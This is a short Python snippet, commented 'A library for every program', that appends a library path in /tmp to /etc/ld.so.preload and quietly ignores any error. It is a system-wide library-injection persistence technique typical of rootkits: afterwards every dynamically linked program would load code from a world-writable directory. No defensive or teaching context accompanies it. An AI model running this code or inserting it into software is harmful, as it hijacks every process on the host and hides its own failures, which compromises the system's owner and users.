# A library for every program.
try:
    open("/etc/ld.so.preload", "a").write("/tmp/x.so\n")
except OSError:
    pass
